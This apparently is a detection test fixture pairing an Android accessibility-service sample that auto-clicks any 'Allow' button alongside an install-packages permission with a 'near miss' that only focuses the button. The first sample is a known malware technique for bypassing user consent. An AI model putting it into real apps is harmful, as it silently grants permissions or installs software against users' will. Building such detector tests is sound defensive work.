permissions("REQUEST_INSTALL_PACKAGES")

@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Events(AccessibilityService):
    def onAccessibilityEvent(self, event):
        window = self.getRootInActiveWindow()
        self.press(window.findAccessibilityNodeInfosByText("Allow"))
    def onInterrupt(self):
        pass
    def press(self, found: List):
        cast(AccessibilityNodeInfo, found.get(0)).performAction(16)

# near miss: puts the focus on the button, for the user to press
@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Events(AccessibilityService):
    def onAccessibilityEvent(self, event):
        window = self.getRootInActiveWindow()
        self.press(window.findAccessibilityNodeInfosByText("Allow"))
    def onInterrupt(self):
        pass
    def press(self, found: List):
        cast(AccessibilityNodeInfo, found.get(0)).performAction(64)
